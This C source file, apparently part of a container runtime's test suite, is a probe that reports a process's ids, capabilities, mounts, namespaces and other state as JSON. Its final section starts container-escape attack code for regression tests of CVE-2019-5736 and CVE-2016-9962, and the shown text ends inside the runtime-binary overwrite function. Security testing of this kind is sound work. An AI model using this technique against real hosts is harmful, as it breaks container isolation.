/* probe: report, as one JSON object on stdout, what a container process sees.
 *
 *   probe                      every section
 *   probe <section>...         only the named sections
 *   probe sysctl <key>...      read /proc/sys/<key> (dots or slashes)
 *
 * Actions (each prints one JSON object, except `signals` which prints JSON lines):
 *   probe write <path> <text>  exit 0 on success, 1 on failure
 *   probe open <path>          open(O_RDONLY); exit 0/1
 *   probe cat <path>           file content as a JSON string; exit 0/1
 *   probe stat <path>...       lstat(): type, mode, uid, gid, rdev major:minor, symlink target;
 *                              "stat" is the first path, "stats" maps each path; exit 0/1
 *   probe exit <n>             exit with status n
 *   probe sleep <secs>         sleep, then exit 0
 *   probe signals [secs]       print {"ready":true}, then one line per caught signal;
 *                              exits 0 after SIGTERM or after secs (default 60)
 *   probe syscall [--trap] [--thread] <name|nr:N> [arg...]  one raw syscall, see probe_syscall.c
 *   probe attack-exe ...       CVE-2019-5736 attacker, probe snoop-fds ...: CVE-2016-9962
 *                              (see "attacks" below; used by tests/security)
 * Extra trailing arguments of actions are ignored (tests use them as markers).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

/* ---------------------------------------------------------------- JSON writer */

static int j_first[64];
static int j_depth;

static void j_putstr(const char *s)
{
    const unsigned char *p = (const unsigned char *)s;
    putchar('"');
    for (; *p; p++) {
        switch (*p) {
        case '"': fputs("\\\"", stdout); break;
        case '\\': fputs("\\\\", stdout); break;
        case '\n': fputs("\\n", stdout); break;
        case '\r': fputs("\\r", stdout); break;
        case '\t': fputs("\\t", stdout); break;
        case '\b': fputs("\\b", stdout); break;
        case '\f': fputs("\\f", stdout); break;
        default:
            if (*p < 0x20 || *p == 0x7f)
                printf("\\u%04x", *p);
            else if (*p >= 0x80)
                /* Not validating UTF-8: escape high bytes as Latin-1 code points so the
                 * output is always valid JSON. */
                printf("\\u%04x", *p);
            else
                putchar(*p);
        }
    }
    putchar('"');
}

static void j_key(const char *key)
{
    if (!j_first[j_depth])
        putchar(',');
    j_first[j_depth] = 0;
    if (key) {
        j_putstr(key);
        putchar(':');
    }
}

static void j_open(const char *key, char c)
{
    j_key(key);
    putchar(c);
    j_first[++j_depth] = 1;
}

static void j_obj(const char *key) { j_open(key, '{'); }
static void j_arr(const char *key) { j_open(key, '['); }
static void j_endobj(void) { j_depth--; putchar('}'); }
static void j_endarr(void) { j_depth--; putchar(']'); }
static void j_str(const char *key, const char *v)
{
    j_key(key);
    if (v)
        j_putstr(v);
    else
        fputs("null", stdout);
}
static void j_int(const char *key, long long v) { j_key(key); printf("%lld", v); }
static void j_uint(const char *key, unsigned long long v) { j_key(key); printf("%llu", v); }
static void j_bool(const char *key, int v) { j_key(key); fputs(v ? "true" : "false", stdout); }
static void j_null(const char *key) { j_key(key); fputs("null", stdout); }

static void j_errno(int err)
{
    j_int("errno", err);
    if (err) {
        const char *n = strerrorname_np(err);
        j_str("errno_name", n ? n : "");
        j_str("error", strerror(err));
    } else {
        j_str("errno_name", "");
        j_str("error", "");
    }
}

static void j_begin(void) { j_depth = 0; j_first[0] = 1; j_obj(NULL); }
static void j_finish(void) { j_endobj(); putchar('\n'); fflush(stdout); }

/* ---------------------------------------------------------------- helpers */

static char *read_file(const char *path, size_t *len_out, int *err)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        *err = errno;
        return NULL;
    }
    size_t cap = 4096, len = 0;
    char *buf = malloc(cap + 1);
    for (;;) {
        if (len == cap) {
            cap *= 2;
            buf = realloc(buf, cap + 1);
        }
        ssize_t n = read(fd, buf + len, cap - len);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            *err = errno;
            close(fd);
            free(buf);
            return NULL;
        }
        if (n == 0)
            break;
        len += (size_t)n;
    }
    close(fd);
    buf[len] = 0;
    if (len_out)
        *len_out = len;
    *err = 0;
    return buf;
}

/* Value of "Key:\t..." in /proc/self/status, trimmed; NULL if absent. Static buffer. */
static const char *status_field(const char *key)
{
    static char *status;
    static char val[1024];
    int err;
    if (!status)
        status = read_file("/proc/self/status", NULL, &err);
    if (!status)
        return NULL;
    size_t kl = strlen(key);
    for (char *line = status; line && *line;) {
        char *nl = strchr(line, '\n');
        if (strncmp(line, key, kl) == 0 && line[kl] == ':') {
            char *v = line + kl + 1;
            while (*v == ' ' || *v == '\t')
                v++;
            size_t n = nl ? (size_t)(nl - v) : strlen(v);
            if (n >= sizeof(val))
                n = sizeof(val) - 1;
            memcpy(val, v, n);
            val[n] = 0;
            while (n > 0 && isspace((unsigned char)val[n - 1]))
                val[--n] = 0;
            return val;
        }
        line = nl ? nl + 1 : NULL;
    }
    return NULL;
}

/* Emit the whitespace-separated numbers of a status line as an array of ints. */
static void status_numbers(const char *jkey, const char *skey)
{
    const char *v = status_field(skey);
    j_arr(jkey);
    if (v) {
        char tmp[1024];
        snprintf(tmp, sizeof(tmp), "%s", v);
        char *save = NULL;
        for (char *t = strtok_r(tmp, " \t", &save); t; t = strtok_r(NULL, " \t", &save))
            j_int(NULL, strtoll(t, NULL, 10));
    }
    j_endarr();
}

static void lines_array(const char *key, const char *path)
{
    int err;
    char *buf = read_file(path, NULL, &err);
    if (!buf) {
        j_null(key);
        return;
    }
    j_arr(key);
    char *save = NULL;
    for (char *l = strtok_r(buf, "\n", &save); l; l = strtok_r(NULL, "\n", &save))
        j_str(NULL, l);
    j_endarr();
    free(buf);
}

/* ---------------------------------------------------------------- sections */

static void sec_ids(void)
{
    uid_t r, e, s;
    gid_t gr, ge, gs;
    getresuid(&r, &e, &s);
    getresgid(&gr, &ge, &gs);
    j_obj("ids");
    j_int("uid", r);
    j_int("euid", e);
    j_int("suid", s);
    const char *u = status_field("Uid");
    long long f = -1;
    if (u && sscanf(u, "%*d %*d %*d %lld", &f) != 1)
        f = -1;
    j_int("fsuid", f);
    j_int("gid", gr);
    j_int("egid", ge);
    j_int("sgid", gs);
    const char *g = status_field("Gid");
    f = -1;
    if (g && sscanf(g, "%*d %*d %*d %lld", &f) != 1)
        f = -1;
    j_int("fsgid", f);
    status_numbers("status_uid", "Uid");
    status_numbers("status_gid", "Gid");
    gid_t groups[NGROUPS_MAX];
    int n = getgroups(NGROUPS_MAX, groups);
    j_arr("groups");
    for (int i = 0; i < n; i++)
        j_int(NULL, groups[i]);
    j_endarr();
    j_endobj();
}

static const char *cap_names[] = {
    "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_FSETID",
    "CAP_KILL", "CAP_SETGID", "CAP_SETUID", "CAP_SETPCAP", "CAP_LINUX_IMMUTABLE",
    "CAP_NET_BIND_SERVICE", "CAP_NET_BROADCAST", "CAP_NET_ADMIN", "CAP_NET_RAW",
    "CAP_IPC_LOCK", "CAP_IPC_OWNER", "CAP_SYS_MODULE", "CAP_SYS_RAWIO", "CAP_SYS_CHROOT",
    "CAP_SYS_PTRACE", "CAP_SYS_PACCT", "CAP_SYS_ADMIN", "CAP_SYS_BOOT", "CAP_SYS_NICE",
    "CAP_SYS_RESOURCE", "CAP_SYS_TIME", "CAP_SYS_TTY_CONFIG", "CAP_MKNOD", "CAP_LEASE",
    "CAP_AUDIT_WRITE", "CAP_AUDIT_CONTROL", "CAP_SETFCAP", "CAP_MAC_OVERRIDE",
    "CAP_MAC_ADMIN", "CAP_SYSLOG", "CAP_WAKE_ALARM", "CAP_BLOCK_SUSPEND", "CAP_AUDIT_READ",
    "CAP_PERFMON", "CAP_BPF", "CAP_CHECKPOINT_RESTORE",
};

static void sec_caps(void)
{
    static const char *sets[][2] = {
        {"inheritable", "CapInh"}, {"permitted", "CapPrm"}, {"effective", "CapEff"},
        {"bounding", "CapBnd"},    {"ambient", "CapAmb"},
    };
    j_obj("caps");
    j_obj("hex");
    for (size_t i = 0; i < 5; i++)
        j_str(sets[i][0], status_field(sets[i][1]));
    j_endobj();
    for (size_t i = 0; i < 5; i++) {
        const char *hex = status_field(sets[i][1]);
        unsigned long long v = hex ? strtoull(hex, NULL, 16) : 0;
        j_arr(sets[i][0]);
        for (unsigned b = 0; b < 64; b++) {
            if (!(v & (1ULL << b)))
                continue;
            if (b < sizeof(cap_names) / sizeof(cap_names[0])) {
                j_str(NULL, cap_names[b]);
            } else {
                char tmp[32];
                snprintf(tmp, sizeof(tmp), "CAP_%u", b);
                j_str(NULL, tmp);
            }
        }
        j_endarr();
    }
    j_endobj();
}

static void sec_rlimits(void)
{
    static const struct { const char *name; int res; } rl[] = {
        {"RLIMIT_CPU", RLIMIT_CPU},         {"RLIMIT_FSIZE", RLIMIT_FSIZE},
        {"RLIMIT_DATA", RLIMIT_DATA},       {"RLIMIT_STACK", RLIMIT_STACK},
        {"RLIMIT_CORE", RLIMIT_CORE},       {"RLIMIT_RSS", RLIMIT_RSS},
        {"RLIMIT_NPROC", RLIMIT_NPROC},     {"RLIMIT_NOFILE", RLIMIT_NOFILE},
        {"RLIMIT_MEMLOCK", RLIMIT_MEMLOCK}, {"RLIMIT_AS", RLIMIT_AS},
        {"RLIMIT_LOCKS", RLIMIT_LOCKS},     {"RLIMIT_SIGPENDING", RLIMIT_SIGPENDING},
        {"RLIMIT_MSGQUEUE", RLIMIT_MSGQUEUE}, {"RLIMIT_NICE", RLIMIT_NICE},
        {"RLIMIT_RTPRIO", RLIMIT_RTPRIO},   {"RLIMIT_RTTIME", RLIMIT_RTTIME},
    };
    j_obj("rlimits");
    for (size_t i = 0; i < sizeof(rl) / sizeof(rl[0]); i++) {
        struct rlimit r;
        j_obj(rl[i].name);
        if (getrlimit(rl[i].res, &r) == 0) {
            j_int("soft", r.rlim_cur == RLIM_INFINITY ? -1 : (long long)r.rlim_cur);
            j_int("hard", r.rlim_max == RLIM_INFINITY ? -1 : (long long)r.rlim_max);
        } else {
            j_errno(errno);
        }
        j_endobj();
    }
    j_endobj();
}

/* mountinfo escapes space, tab, newline and backslash as \ooo. */
static void unescape_octal(char *s)
{
    char *w = s;
    for (char *r = s; *r;) {
        if (r[0] == '\\' && r[1] >= '0' && r[1] <= '7' && r[2] >= '0' && r[2] <= '7' &&
            r[3] >= '0' && r[3] <= '7') {
            *w++ = (char)(((r[1] - '0') << 6) | ((r[2] - '0') << 3) | (r[3] - '0'));
            r += 4;
        } else {
            *w++ = *r++;
        }
    }
    *w = 0;
}

static void csv_array(const char *key, char *s)
{
    j_arr(key);
    char *save = NULL;
    for (char *t = strtok_r(s, ",", &save); t; t = strtok_r(NULL, ",", &save))
        j_str(NULL, t);
    j_endarr();
}

static void sec_mounts(void)
{
    int err;
    char *buf = read_file("/proc/self/mountinfo", NULL, &err);
    if (!buf) {
        j_obj("mounts");
        j_errno(err);
        j_endobj();
        return;
    }
    j_arr("mounts");
    char *lsave = NULL;
    for (char *line = strtok_r(buf, "\n", &lsave); line; line = strtok_r(NULL, "\n", &lsave)) {
        char *f[64];
        int nf = 0;
        char *save = NULL;
        for (char *t = strtok_r(line, " ", &save); t && nf < 64; t = strtok_r(NULL, " ", &save))
            f[nf++] = t;
        int sep = -1;
        for (int i = 6; i < nf; i++)
            if (strcmp(f[i], "-") == 0) {
                sep = i;
                break;
            }
        if (nf < 7 || sep < 0 || sep + 3 > nf)
            continue;
        j_obj(NULL);
        j_int("id", strtoll(f[0], NULL, 10));
        j_int("parent", strtoll(f[1], NULL, 10));
        j_str("dev", f[2]);
        unescape_octal(f[3]);
        j_str("root", f[3]);
        unescape_octal(f[4]);
        j_str("mount_point", f[4]);
        csv_array("options", f[5]);
        j_arr("propagation");
        for (int i = 6; i < sep; i++)
            j_str(NULL, f[i]);
        j_endarr();
        j_str("fstype", f[sep + 1]);
        unescape_octal(f[sep + 2]);
        j_str("source", f[sep + 2]);
        if (sep + 3 < nf)
            csv_array("super_options", f[sep + 3]);
        else {
            j_arr("super_options");
            j_endarr();
        }
        j_endobj();
    }
    j_endarr();
    free(buf);
}

static void sec_ns(void)
{
    j_obj("ns");
    DIR *d = opendir("/proc/self/ns");
    if (!d) {
        j_errno(errno);
        j_endobj();
        return;
    }
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char path[300], target[256];
        snprintf(path, sizeof(path), "/proc/self/ns/%s", de->d_name);
        ssize_t n = readlink(path, target, sizeof(target) - 1);
        if (n < 0) {
            j_null(de->d_name);
            continue;
        }
        target[n] = 0;
        char *lb = strchr(target, '[');
        j_uint(de->d_name, lb ? strtoull(lb + 1, NULL, 10) : 0);
    }
    closedir(d);
    j_endobj();
}

static long long status_ll(const char *key, long long dflt)
{
    const char *v = status_field(key);
    return v ? strtoll(v, NULL, 10) : dflt;
}

static void sec_seccomp(void)
{
    j_obj("seccomp");
    j_int("mode", status_ll("Seccomp", -1));
    j_int("filters", status_ll("Seccomp_filters", -1));
    j_endobj();
}

static void sec_nnp(void) { j_int("nnp", status_ll("NoNewPrivs", -1)); }
static void sec_cgroup(void) { lines_array("cgroup", "/proc/self/cgroup"); }

static void sec_env(void)
{
    j_arr("env");
    for (char **e = environ; e && *e; e++)
        j_str(NULL, *e);
    j_endarr();
}

static void sec_cwd(void)
{
    char buf[PATH_MAX];
    j_str("cwd", getcwd(buf, sizeof(buf)));
}

static void sec_fds(void)
{
    j_arr("fds");
    DIR *d = opendir("/proc/self/fd");
    if (d) {
        int self = dirfd(d);
        struct dirent *de;
        while ((de = readdir(d))) {
            if (de->d_name[0] == '.')
                continue;
            int fd = atoi(de->d_name);
            if (fd == self)
                continue;
            char path[300], target[PATH_MAX];
            snprintf(path, sizeof(path), "/proc/self/fd/%s", de->d_name);
            ssize_t n = readlink(path, target, sizeof(target) - 1);
            target[n < 0 ? 0 : n] = 0;
            j_obj(NULL);
            j_int("fd", fd);
            j_str("target", target);
            j_endobj();
        }
        closedir(d);
    }
    j_endarr();
}

static void sec_uname(int domain)
{
    struct utsname u;
    if (uname(&u) != 0) {
        j_null(domain ? "domainname" : "hostname");
        return;
    }
    if (domain)
        j_str("domainname", u.domainname);
    else
        j_str("hostname", u.nodename);
}

static void sec_umask(void)
{
    const char *v = status_field("Umask");
    if (!v) { /* very old kernels: umask() round trip */
        mode_t m = umask(0);
        umask(m);
        char tmp[8];
        snprintf(tmp, sizeof(tmp), "%04o", (unsigned)m);
        j_str("umask", tmp);
        return;
    }
    j_str("umask", v);
}

static void sec_oom(void)
{
    int err;
    char *v = read_file("/proc/self/oom_score_adj", NULL, &err);
    if (v)
        j_int("oom_score_adj", strtoll(v, NULL, 10));
    else
        j_null("oom_score_adj");
    free(v);
}

static void sec_personality(void)
{
    int p = personality(0xffffffff);
    j_obj("personality");
    j_int("value", p);
    char tmp[32];
    snprintf(tmp, sizeof(tmp), "0x%x", (unsigned)p);
    j_str("hex", tmp);
    const char *dom = "other";
    if ((p & PER_MASK) == PER_LINUX)
        dom = "LINUX";
    else if ((p & PER_MASK) == PER_LINUX32)
        dom = "LINUX32";
    j_str("domain", dom);
    j_endobj();
}

static void sec_ioprio(void)
{
    j_obj("ioprio");
    errno = 0;
    long r = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);
    if (r < 0) {
        j_errno(errno);
    } else {
        static const char *cls[] = {"IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE",
                                    "IOPRIO_CLASS_IDLE"};
        int c = (int)(r >> 13);
        j_int("raw", r);
        j_int("class", c);
        j_str("class_name", c >= 0 && c < 4 ? cls[c] : "unknown");
        j_int("level", r & 0x1fff);
    }
    j_endobj();
}

struct probe_sched_attr {
    uint32_t size, sched_policy;
    uint64_t sched_flags;
    int32_t sched_nice;
    uint32_t sched_priority;
    uint64_t sched_runtime, sched_deadline, sched_period;
    uint32_t sched_util_min, sched_util_max;
};

static void sec_sched(void)
{
    static const char *pol[] = {"SCHED_OTHER", "SCHED_FIFO", "SCHED_RR", "SCHED_BATCH",
                                "SCHED_ISO", "SCHED_IDLE", "SCHED_DEADLINE"};
    j_obj("sched");
    int p = sched_getscheduler(0);
    int base = p & ~0x40000000; /* SCHED_RESET_ON_FORK */
    j_int("policy", base);
    j_str("policy_name", base >= 0 && base < 7 ? pol[base] : "unknown");
    j_bool("reset_on_fork", p >= 0 && (p & 0x40000000));
    struct sched_param sp = {0};
    sched_getparam(0, &sp);
    j_int("priority", sp.sched_priority);
    errno = 0;
    int nice = getpriority(PRIO_PROCESS, 0);
    j_int("nice", errno ? 0 : nice);
    struct probe_sched_attr a;
    memset(&a, 0, sizeof(a));
    if (syscall(SYS_sched_getattr, 0, &a, sizeof(a), 0) == 0) {
        j_obj("attr");
        j_int("policy", a.sched_policy);
        j_uint("flags", a.sched_flags);
        j_int("nice", a.sched_nice);
        j_int("priority", a.sched_priority);
        j_uint("runtime", a.sched_runtime);
        j_uint("deadline", a.sched_deadline);
        j_uint("period", a.sched_period);
        j_endobj();
    }
    j_endobj();
}

static void sec_affinity(void)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    j_obj("affinity");
    if (sched_getaffinity(0, sizeof(set), &set) != 0) {
        j_errno(errno);
        j_endobj();
        return;
    }
    j_arr("cpus");
    char list[4096] = "";
    size_t len = 0;
    for (int i = 0; i < CPU_SETSIZE; i++) {
        if (!CPU_ISSET(i, &set))
            continue;
        j_int(NULL, i);
        int j = i;
        while (j + 1 < CPU_SETSIZE && CPU_ISSET(j + 1, &set))
            j++;
        if (len < sizeof(list) - 32) {
            if (j > i)
                len += (size_t)snprintf(list + len, sizeof(list) - len, "%s%d-%d",
                                        len ? "," : "", i, j);
            else
                len += (size_t)snprintf(list + len, sizeof(list) - len, "%s%d", len ? "," : "", i);
        }
        for (int k = i + 1; k <= j; k++)
            j_int(NULL, k);
        i = j;
    }
    j_endarr();
    j_str("list", list);
    j_endobj();
}

static void sec_pid(void)
{
    j_obj("pid");
    j_int("pid", getpid());
    j_int("ppid", getppid());
    j_endobj();
}

static void sec_sid(void)
{
    j_obj("sid");
    j_int("sid", getsid(0));
    j_int("pgrp", getpgrp());
    j_endobj();
}

static void sec_tty(void)
{
    j_obj("tty");
    j_arr("isatty");
    for (int fd = 0; fd < 3; fd++)
        j_bool(NULL, isatty(fd));
    j_endarr();
    j_arr("ttyname");
    for (int fd = 0; fd < 3; fd++)
        j_str(NULL, isatty(fd) ? ttyname(fd) : NULL);
    j_endarr();
    j_int("sid", getsid(0));
    j_int("pgrp", getpgrp());
    j_int("tcpgrp", isatty(0) ? tcgetpgrp(0) : -1);
    int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    int err = errno;
    j_bool("ctty", fd >= 0);
    if (fd >= 0)
        close(fd);
    else
        j_int("ctty_errno", err);
    j_endobj();
}

static void sec_winsize(void)
{
    struct winsize ws;
    j_obj("winsize");
    if (ioctl(0, TIOCGWINSZ, &ws) == 0) {
        j_int("rows", ws.ws_row);
        j_int("cols", ws.ws_col);
        j_int("errno", 0);
    } else {
        j_errno(errno);
    }
    j_endobj();
}

static void sec_apparmor(void)
{
    int err;
    char *v = read_file("/proc/self/attr/apparmor/current", NULL, &err);
    if (!v)
        v = read_file("/proc/self/attr/current", NULL, &err);
    if (v) {
        size_t n = strlen(v);
        while (n && (v[n - 1] == '\n' || v[n - 1] == 0))
            v[--n] = 0;
    }
    j_str("apparmor", v);
    free(v);
}

static void sec_timens(void)
{
    struct timespec m, b;
    clock_gettime(CLOCK_MONOTONIC, &m);
    clock_gettime(CLOCK_BOOTTIME, &b);
    j_obj("timens");
    j_int("monotonic", m.tv_sec);
    j_int("boottime", b.tv_sec);
    j_endobj();
}

static void sec_mempolicy(void)
{
    static const char *modes[] = {"MPOL_DEFAULT", "MPOL_PREFERRED", "MPOL_BIND",
                                  "MPOL_INTERLEAVE", "MPOL_LOCAL", "MPOL_PREFERRED_MANY",
                                  "MPOL_WEIGHTED_INTERLEAVE"};
    int mode = 0;
    unsigned long mask[16];
    memset(mask, 0, sizeof(mask));
    j_obj("mempolicy");
    if (syscall(SYS_get_mempolicy, &mode, mask, sizeof(mask) * 8, NULL, 0UL) != 0) {
        j_errno(errno);
        j_endobj();
        return;
    }
    int flags = mode & (0x7 << 13); /* MPOL_F_STATIC_NODES|RELATIVE_NODES|NUMA_BALANCING */
    int base = mode & ~(0x7 << 13);
    j_int("mode", base);
    j_str("mode_name", base >= 0 && base < 7 ? modes[base] : "unknown");
    j_arr("flags");
    if (flags & (1 << 15))
        j_str(NULL, "MPOL_F_STATIC_NODES");
    if (flags & (1 << 14))
        j_str(NULL, "MPOL_F_RELATIVE_NODES");
    if (flags & (1 << 13))
        j_str(NULL, "MPOL_F_NUMA_BALANCING");
    j_endarr();
    j_arr("nodes");
    for (unsigned i = 0; i < sizeof(mask) * 8; i++)
        if (mask[i / (8 * sizeof(long))] & (1UL << (i % (8 * sizeof(long)))))
            j_int(NULL, i);
    j_endarr();
    j_endobj();
}

static void sysctl_one(const char *key)
{
    char path[PATH_MAX];
    int n = snprintf(path, sizeof(path), "/proc/sys/");
    for (const char *k = key; *k && n < (int)sizeof(path) - 1; k++)
        path[n++] = *k == '.' ? '/' : *k;
    path[n] = 0;
    int err;
    char *v = read_file(path, NULL, &err);
    if (v) {
        size_t l = strlen(v);
        while (l && v[l - 1] == '\n')
            v[--l] = 0;
        j_str(key, v);
        free(v);
    } else {
        j_null(key);
    }
}

/* ---------------------------------------------------------------- actions */

static int act_write(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    int err = 0;
    if (fd < 0) {
        err = errno;
    } else {
        size_t len = strlen(text);
        ssize_t w = write(fd, text, len);
        if (w < 0)
            err = errno;
        else if ((size_t)w != len)
            err = EIO;
        if (close(fd) != 0 && !err)
            err = errno;
    }
    j_begin();
    j_obj("write");
    j_str("path", path);
    j_bool("ok", err == 0);
    j_errno(err);
    j_endobj();
    j_finish();
    return err ? 1 : 0;
}

static int act_open(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int err = fd < 0 ? errno : 0;
    if (fd >= 0)
        close(fd);
    j_begin();
    j_obj("open");
    j_str("path", path);
    j_bool("ok", err == 0);
    j_errno(err);
    j_endobj();
    j_finish();
    return err ? 1 : 0;
}

static int act_cat(const char *path)
{
    int err;
    char *v = read_file(path, NULL, &err);
    j_begin();
    j_obj("cat");
    j_str("path", path);
    j_bool("ok", v != NULL);
    j_str("content", v);
    j_errno(v ? 0 : err);
    j_endobj();
    j_finish();
    free(v);
    return v ? 0 : 1;
}

static int stat_one(const char *key, const char *path)
{
    struct stat st;
    int r = lstat(path, &st);
    int err = r ? errno : 0;
    j_obj(key);
    j_str("path", path);
    j_bool("ok", r == 0);
    j_errno(err);
    if (r == 0) {
        const char *type = "unknown";
        switch (st.st_mode & S_IFMT) {
        case S_IFREG: type = "file"; break;
        case S_IFDIR: type = "dir"; break;
        case S_IFLNK: type = "symlink"; break;
        case S_IFCHR: type = "char"; break;
        case S_IFBLK: type = "block"; break;
        case S_IFIFO: type = "fifo"; break;
        case S_IFSOCK: type = "socket"; break;
        }
        j_str("type", type);
        char m[16];
        snprintf(m, sizeof(m), "%04o", (unsigned)(st.st_mode & 07777));
        j_str("mode", m);
        j_int("uid", st.st_uid);
        j_int("gid", st.st_gid);
        j_int("size", st.st_size);
        j_int("major", major(st.st_rdev));
        j_int("minor", minor(st.st_rdev));
        if (S_ISLNK(st.st_mode)) {
            char t[PATH_MAX];
            ssize_t n = readlink(path, t, sizeof(t) - 1);
            t[n < 0 ? 0 : n] = 0;
            j_str("target", t);
        }
    }
    j_endobj();
    return r == 0;
}

/* probe stat <path>...: "stat" describes the first path, "stats" maps every path. */
static int act_stat(int n, char **paths)
{
    int ok = 1;
    j_begin();
    stat_one("stat", paths[0]);
    j_obj("stats");
    for (int i = 0; i < n; i++)
        ok &= stat_one(paths[i], paths[i]);
    j_endobj();
    j_finish();
    return ok ? 0 : 1;
}

static volatile sig_atomic_t sig_queue[256];
static volatile sig_atomic_t sig_head, sig_tail;

static void on_signal(int sig)
{
    sig_queue[sig_tail % 256] = sig;
    sig_tail++;
}

static int act_signals(int secs)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigfillset(&sa.sa_mask);
    for (int s = 1; s < NSIG; s++) {
        if (s == SIGKILL || s == SIGSTOP)
            continue;
        sigaction(s, &sa, NULL);
    }
    printf("{\"ready\":true,\"pid\":%d}\n", getpid());
    fflush(stdout);
    time_t end = time(NULL) + secs;
    for (;;) {
        while (sig_head != sig_tail) {
            int s = sig_queue[sig_head % 256];
            sig_head++;
            const char *abbrev = sigabbrev_np(s);
            char name[32];
            if (abbrev)
                snprintf(name, sizeof(name), "SIG%s", abbrev);
            else if (s >= SIGRTMIN && s <= SIGRTMAX)
                snprintf(name, sizeof(name), "SIGRTMIN+%d", s - SIGRTMIN);
            else
                snprintf(name, sizeof(name), "SIG%d", s);
            printf("{\"signal\":%d,\"name\":\"%s\"}\n", s, name);
            fflush(stdout);
            if (s == SIGTERM)
                return 0;
        }
        if (time(NULL) >= end)
            return 0;
        struct timespec ts = {0, 20 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
}

/* ---------------------------------------------------------------- main */

struct section {
    const char *name;
    void (*fn)(void);
};

static void sec_hostname(void) { sec_uname(0); }
static void sec_domainname(void) { sec_uname(1); }

static const struct section sections[] = {
    {"ids", sec_ids},         {"caps", sec_caps},         {"rlimits", sec_rlimits},
    {"mounts", sec_mounts},   {"ns", sec_ns},             {"seccomp", sec_seccomp},
    {"nnp", sec_nnp},         {"cgroup", sec_cgroup},     {"env", sec_env},
    {"cwd", sec_cwd},         {"fds", sec_fds},           {"hostname", sec_hostname},
    {"domainname", sec_domainname}, {"umask", sec_umask}, {"oom_score_adj", sec_oom},
    {"personality", sec_personality}, {"ioprio", sec_ioprio}, {"sched", sec_sched},
    {"affinity", sec_affinity}, {"pid", sec_pid},         {"sid", sec_sid},
    {"tty", sec_tty},         {"winsize", sec_winsize},   {"apparmor", sec_apparmor},
    {"timens", sec_timens},   {"mempolicy", sec_mempolicy},
};
#define NSECTIONS (sizeof(sections) / sizeof(sections[0]))

static const struct section *find_section(const char *name)
{
    for (size_t i = 0; i < NSECTIONS; i++)
        if (strcmp(sections[i].name, name) == 0)
            return &sections[i];
    return NULL;
}

/* Included, not linked, so the probe stays one compiler invocation (helpers.bash builds
 * it with a bare gcc when run outside meson). */
#include "probe_syscall.c"
/* ---------------------------------------------------------------- attacks (tests/security)
 *
 * Both attacks ignore the processes that exist when they start (their own container) and
 * watch the ones that appear later: another container's init and processes joining this
 * pid namespace. Options:
 *   --ready F    start the observation once file F exists (default: at once)
 *   --signal F   create F once the observation has run (a hook waits for it)
 *   --done F     stop once F exists, after a last round (default: at --timeout)
 *   --timeout S  give up after S seconds (default 30)
 */

static int usage(void);

struct watch_opts {
    const char *ready, *signal, *done, *target, *fifo;
    double timeout;
};

static int watch_parse(int n, char **a, struct watch_opts *o)
{
    memset(o, 0, sizeof(*o));
    o->timeout = 30;
    for (int i = 0; i + 1 < n; i += 2) {
        if (strcmp(a[i], "--ready") == 0) o->ready = a[i + 1];
        else if (strcmp(a[i], "--signal") == 0) o->signal = a[i + 1];
        else if (strcmp(a[i], "--done") == 0) o->done = a[i + 1];
        else if (strcmp(a[i], "--target") == 0) o->target = a[i + 1];
        else if (strcmp(a[i], "--fifo") == 0) o->fifo = a[i + 1];
        else if (strcmp(a[i], "--timeout") == 0) o->timeout = strtod(a[i + 1], NULL);
        else return -1;
    }
    return n % 2 == 0 ? 0 : -1;
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int exists(const char *p) { return p && access(p, F_OK) == 0; }

static void touch(const char *p)
{
    int fd = p ? open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644) : -1;
    if (fd >= 0) close(fd);
}

static void nap_ms(long ms)
{
    struct timespec ts = {0, ms * 1000000L};
    nanosleep(&ts, NULL);
}

#define MAX_PIDS 4096
static char old_pid[MAX_PIDS * 8];

/* The numeric entries of /proc, marked in old_pid when mark != 0, else returned in out. */
static int list_pids(int mark, int *out, int max)
{
    DIR *d = opendir("/proc");
    int n = 0;
    struct dirent *e;
    if (!d) return 0;
    while ((e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid >= MAX_PIDS * 8) continue;
        if (mark) old_pid[pid] = 1;
        else if (!old_pid[pid] && n < max) out[n++] = pid;
    }
    closedir(d);
    return n;
}

/* probe attack-exe --target SUBSTR [--fifo F] [options]: CVE-2019-5736. Holds an O_PATH
 * fd of /proc/<pid>/exe of every new process whose exe path contains SUBSTR (only those:
 * the attack must not hit anything but the victim binary), opens --fifo for reading once
 * it holds one (a victim blocked opening it for writing then runs on and exits), and tries
 * to reopen each held fd for writing through /proc/self/fd until that works (ETXTBSY
 * while anything still executes the file). {"wrote": path-or-null, "held": [...], ...} */
static int act_attack_exe(int n, char **a)
{
    struct watch_opts o;
    if (watch_parse(n, a, &o) < 0 || !o.target) return usage();
    static int fds[256];
    static char links[256][PATH_MAX];
    int nfd = 0, fifo_fd = -1, seen = 0, last_err = 0;
    const char *wrote = NULL;
